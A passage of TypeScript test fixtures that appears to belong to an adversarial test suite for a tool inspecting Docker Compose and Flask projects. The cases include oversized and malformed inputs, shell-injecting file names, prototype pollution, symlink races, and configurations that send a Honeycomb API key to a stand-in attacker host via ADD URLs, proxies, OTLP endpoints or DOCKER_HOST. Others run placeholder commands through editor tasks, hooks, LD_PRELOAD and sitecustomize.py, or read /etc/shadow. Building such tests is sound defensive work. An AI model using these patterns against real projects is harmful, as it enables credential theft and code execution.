  { name: 'a short line: COPY', tries: 'hold up a match', tree: { ...FLASK, 'api/Dockerfile': DOCKERFILE.replace('COPY . .', `COPY ${'*a'.repeat(100)}b ./\nCOPY ${'**/'.repeat(60)}x .\nCOPY . .`), [`api/${'a'.repeat(200)}`]: 'x\n' } },
  { name: 'long lines: sources', tries: 'hold up an expression', tree: { ...FLASK, 'api/app.py': `from flask import Flask\napp = Flask(__name__)\nx = '${' \\t'.repeat(200_000)}'\n#${' '.repeat(300_000)}x\nimport ${'a.'.repeat(100_000)}b\n${'('.repeat(50_000)}\n`, 'api/b.py': `"""${'""'.repeat(200_000)}\n`, 'api/c.py': `${'if x:\n '.repeat(20_000)}pass\n` } },
  { name: 'long lines: scripts', tries: 'hold up an expression', tree: node({ 'index.js': `const x = \`${'${`'.repeat(30_000)}\n${'/*'.repeat(200_000)}\n//${' '.repeat(300_000)}\nrequire(${'('.repeat(50_000)}`, 'b.js': `import ${'{a,'.repeat(100_000)}` }) },
  { name: 'long lines: shell words', tries: 'hold up the reading of a command', tree: compose(COMPOSE.replace('environment', `command: sh -c "${'\\"$(('.repeat(20_000)}"\n    entrypoint: ["sh", "-c", "${'exec '.repeat(20_000)}flask run"]\n    environment`), { Procfile: `web: ${'a=b '.repeat(50_000)}flask run\n`, 'api/entry.sh': `#!/bin/sh\n${'if '.repeat(20_000)}\nexec "$@"\n` }) },
  { name: 'long lines: manifests', tries: 'hold up an expression', tree: { ...FLASK, 'api/requirements.txt': `flask${' '.repeat(200_000)}; x\n${'a[b,'.repeat(50_000)}\n${'-'.repeat(200_000)}\nflask==${'1.'.repeat(100_000)}0\n`, 'api/Dockerfile': `${DOCKERFILE}RUN ${'a \\\n'.repeat(50_000)}b\nCOPY <<EOF${'F'.repeat(100_000)} /x\n` } },
];

const sizes: readonly Attack[] = [
  { name: 'a compose file of 7 MB', tries: 'take time and memory', tree: compose(`${COMPOSE}${times(180_000, (i) => `      V${i}: "value of the variable ${i}"\n`).slice(0, 7 * 1024 * 1024)}\n`) },
  { name: 'a lock file of 30 MB', tries: 'take time and memory', tree: node({ 'package-lock.json': `{"lockfileVersion":3,"packages":{${times(150_000, (i) => `${i === 0 ? '' : ','}"node_modules/p${i}":{"version":"1.0.0","resolved":"http://@HOST@/p${i}.tgz","integrity":"sha512-${'x'.repeat(64)}"}`)}}}\n` }) },
  { name: 'thousands of files', tries: 'take time', tree: { ...FLASK, ...Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`api/m${i % 50}/f${i}.py`, 'from flask import Flask\nimport os\n'])) }, untracked: true },
  { name: 'folders in folders', tries: 'end the stack, or the length of a path', tree: { ...FLASK, [`api/${'d/'.repeat(1500)}app.py`]: 'x = 1\n' }, untracked: true },
  { name: 'a thousand services', tries: 'take time', tree: compose(`services:\n${times(1000, (i) => `  s${i}:\n    build: ./api\n    ports: ["${10_000 + i}:5000"]\n`)}`) },
  { name: 'long names', tries: 'make a name too long for a temporary file or a journal', tree: compose(`services:\n  ${'n'.repeat(240)}:\n    build: ./${'d'.repeat(250)}\n`, { [`${'d'.repeat(250)}/requirements.txt`]: 'flask\n', [`${'d'.repeat(250)}/app.py`]: FLASK['api/app.py'] ?? '', [`${'d'.repeat(250)}/Dockerfile`]: DOCKERFILE.replaceAll('requirements.txt', `${'r'.repeat(240)}.txt`), [`${'d'.repeat(250)}/${'r'.repeat(240)}.txt`]: 'flask\n' }) },
  { name: 'names that are not text', tries: 'crash what lists a folder', tree: { ...FLASK, 'api/a\nb.py': 'x = 1\n', 'api/-rf': 'x\n', 'api/--help': 'x\n', 'api/$(touch x)': 'x\n' }, untracked: true, make: (at) => writeFileSync(Buffer.concat([Buffer.from(join(at.folder, 'api/')), Buffer.from([0xff, 0xfe, 0x41]), Buffer.from('.py')]), 'x = 1\n') },
  { name: 'names in other cases', tries: 'be another file for each who looks', tree: { ...FLASK, 'Docker-Compose.yml': 'services: {}\n', '.ENV': 'A=1\n', '.GIT/config': '[core]\n\tfsmonitor = "@EVIL@"\n', 'API/Dockerfile': 'FROM evil\n', 'git~1/config': 'x\n', '.git\u00e2\u0080\u008b/config': 'x\n' }, untracked: true },
  { name: 'services with the names of Object', tries: 'change what every object has', tree: compose('services:\n  __proto__:\n    build: ./api\n    environment: { __proto__: { polluted: "yes" }, constructor: x }\n  constructor:\n    build: ./api\n  toString: { extends: __proto__ }\n', { 'api/package.json': '{"__proto__":{"scripts":{"start":"x"}},"constructor":{"prototype":{"polluted":1}},"dependencies":{"__proto__":"1"}}\n' }) },
  { name: 'bytes that are no text', tries: 'crash what reads them', tree: { ...FLASK, 'api/app.py': '\xff\xfe\0\0from flask\xc3\x28', 'api/requirements.txt': '\xff\xfef\0l\0a\0s\0k\0\n\0', '.env.example': '\0\0\0', 'api/Dockerfile': `${DOCKERFILE}\0` } },
];

const remote: readonly Attack[] = [
  { name: 'compose: include from afar', tries: 'be fetched by git, oci and http', tree: compose('include:\n  - http://@HOST@/evil.git\n  - https://127.0.0.1:1/evil.git#main:x\n  - git@127.0.0.1:evil.git\n  - oci://@HOST@/evil:latest\n  - path: ["oci://@HOST@/a", "../outside/profile"]\n    env_file: http://@HOST@/env\nservices:\n  api:\n    build: ./api\n') },
  { name: 'compose: extends from afar', tries: 'be fetched', tree: compose('services:\n  api:\n    build: ./api\n    extends: { file: "http://@HOST@/x.yml", service: api }\n  b:\n    extends: { file: "oci://@HOST@/x", service: api }\n  c:\n    extends: { file: ../outside/profile, service: api }\n') },
  { name: 'compose: build contexts from afar', tries: 'be fetched, or run by ssh', tree: compose('services:\n  api:\n    build: { context: "http://@HOST@/x.git", ssh: [default], secrets: [k], additional_contexts: { a: "http://@HOST@/a" } }\n  b:\n    build: { context: "git@127.0.0.1:x", dockerfile_inline: "FROM x" }\n  c:\n    build: ../outside\n    env_file: ["http://@HOST@/e"]\n    configs: [c]\nsecrets:\n  k: { environment: HONEYCOMB_API_KEY }\nconfigs:\n  c: { file: /etc/shadow }\n') },
  { name: 'compose: a provider', tries: 'have Compose run a program', tree: compose(`${COMPOSE}  evil:\n    provider: { type: "@EVIL@", options: { a: b } }\n  hooked:\n    build: ./api\n    post_start: [{ command: "@EVIL@" }]\n    develop: { watch: [{ path: ., action: sync+exec, target: /, exec: { command: "@EVIL@" } }] }\n  model: { image: x, models: [m] }\nmodels:\n  m: { model: "@HOST@/m" }\n`) },
  { name: 'Dockerfile: a frontend', tries: 'run a frontend of the attacker', tree: { ...FLASK, 'api/Dockerfile': `# syntax=@HOST@/evil/frontend:1\n# check=skip=all\nFROM @HOST@/base\nADD http://@HOST@/\${HONEYCOMB_API_KEY} /x\nADD git@127.0.0.1:x /y\nONBUILD RUN evil\nRUN --mount=type=ssh --mount=type=secret,id=k @EVIL@\n${DOCKERFILE.split('\n').slice(1).join('\n')}` } },
  { name: '.env: another compose file', tries: 'lead out of the workspace', tree: { ...FLASK }, make: (at) => writeFileSync(join(at.folder, '.env'), `COMPOSE_FILE=../outside/profile:/etc/passwd:http://${at.host}/x.yml\nCOMPOSE_PATH_SEPARATOR=:\nCOMPOSE_ENV_FILES=/dev/zero\n`) },
  { name: '.env: another engine', tries: 'have Docker speak to the attacker', tree: { ...FLASK }, make: (at) => writeFileSync(join(at.folder, '.env'), `DOCKER_HOST=tcp://${at.host}\nDOCKER_CONTEXT=evil\nDOCKER_CONFIG=${at.folder}\nHTTP_PROXY=http://${at.host}\nHTTPS_PROXY=http://${at.host}\nhttp_proxy=http://${at.host}\n`) },
  { name: '.env: another Honeycomb', tries: 'get the key sent to the attacker', tree: { ...FLASK }, make: (at) => writeFileSync(join(at.folder, '.env'), `HONEYCOMB_API_ENDPOINT=http://${at.host}\nOTEL_EXPORTER_OTLP_ENDPOINT=http://${at.host}\nOTEL_SETUP_BACKEND=otlp\nOTEL_SETUP_REGION=http://${at.host}\n`) },
  { name: '.env: variables of programs', tries: 'have programs load something', tree: { ...FLASK }, make: (at) => writeFileSync(join(at.folder, '.env'), `NODE_OPTIONS=--require=${at.folder}/evil.cjs\nLD_PRELOAD=${at.folder}/evil.so\nPATH=${at.folder}\nGIT_SSH_COMMAND=${at.folder}/evil.sh\nGIT_CONFIG_COUNT=1\nGIT_CONFIG_KEY_0=core.fsmonitor\nGIT_CONFIG_VALUE_0=${at.folder}/evil.sh\nBASH_ENV=${at.folder}/evil.sh\nPYTHONSTARTUP=${at.folder}/evil.py\nXDG_STATE_HOME=${at.outside}\nHOME=${at.outside}\n`) },
  { name: 'a service that sends to the attacker', tries: 'get the key by the doctor’s own request', tree: compose(`${COMPOSE}      OTEL_EXPORTER_OTLP_ENDPOINT: "http://@HOST@"\n      OTEL_EXPORTER_OTLP_HEADERS: "x-honeycomb-team=\${HONEYCOMB_API_KEY}"\n      OTEL_EXPORTER_OTLP_PROTOCOL: http/protobuf\n`) },
  { name: 'placeholders of ours', tries: 'get the key written into a tracked file', tree: compose(COMPOSE.replace('"4567"', '"{{secret:HONEYCOMB_API_KEY}}"'), { 'api/requirements.txt': 'flask\n# {{secret:HONEYCOMB_API_KEY}}\n', 'api/Dockerfile': `${DOCKERFILE}# {{secret:HONEYCOMB_API_KEY}}\n`, '.gitignore': '# {{secret:HONEYCOMB_API_KEY}}\n' }), make: (at) => writeFileSync(join(at.folder, '.env'), 'A={{secret:HONEYCOMB_API_KEY}}\nHONEYCOMB_API_KEY=\n') },
  { name: 'other tools’ settings', tries: 'have hooks, tasks and version managers run something', tree: { ...FLASK, '.gitpod.yml': 'tasks:\n  - init: "@EVIL@"\n    command: "@EVIL@"\n', '.devcontainer/devcontainer.json': '{"postCreateCommand":"@EVIL@","initializeCommand":"@EVIL@"}\n', '.tool-versions': 'nodejs path:@ROOT@\n', '.nvmrc': '@EVIL@\n', '.envrc': '@EVIL@\n', 'mise.toml': '[hooks]\nenter = "@EVIL@"\n', Makefile: 'all:\n\t@EVIL@\n', '.vscode/tasks.json': '{"tasks":[{"command":"@EVIL@","runOptions":{"runOn":"folderOpen"}}]}\n', 'sitecustomize.py': 'import os\nos.system("@EVIL@")\n', 'conftest.py': 'import os\nos.system("@EVIL@")\n' } },
];

/** Two states of a file, one after the other, as fast as it goes. */
function flips(make: (at: Ground, turn: number) => void): (at: Ground) => () => void {
  return (at) => {
    let turn = 0;
    const timer = setInterval(() => {
      try {
        make(at, turn++);
      } catch {
        // The program was faster.
      }
    }, 2);
    return () => clearInterval(timer);
  };
}
function swap(at: Ground, name: string, make: (file: string) => void): void {
  const fresh = join(at.folder, `.fresh-${process.pid}`);
  rmSync(fresh, { force: true });
  make(fresh);
  if (existsSync(fresh)) renameSync(fresh, join(at.folder, name));
}
const races: readonly Attack[] = [
  { name: 'race: .env becomes a link', tries: 'have the key written outside between the look and the write', tree: FLASK, untracked: true, during: flips((at, turn) => { if (turn % 2 === 0) swap(at, '.env', (file) => symlinkSync(join(at.outside, 'profile'), file)); else rmSync(join(at.folder, '.env'), { force: true }); }) },
  { name: 'race: a service folder becomes a link', tries: 'have files written outside between the look and the write', tree: FLASK, untracked: true, make: (at) => { for (const [name, text] of Object.entries(FLASK)) if (name.startsWith('api/')) writeFileSync(join(at.outside, name.slice(4)), text); }, during: flips((at, turn) => { const [api, kept] = [join(at.folder, 'api'), join(at.folder, 'api-kept')]; if (turn % 2 === 0) { renameSync(api, kept); symlinkSync(at.outside, api); } else { rmSync(api); renameSync(kept, api); } }) },
  { name: 'race: the compose file changes', tries: 'have something else written than what was read', tree: FLASK, untracked: true, during: flips((at, turn) => swap(at, 'docker-compose.yml', (file) => { if (turn % 3 === 2) symlinkSync(join(at.outside, 'profile'), file); else writeFileSync(file, turn % 3 === 0 ? COMPOSE : `${COMPOSE}# ${turn}\n`); })) },
];

export const ATTACKS: readonly Attack[] = [...managers, ...paths, ...gits, ...journals, ...links, ...things, ...output, ...bombs, ...sizes, ...remote, ...races];
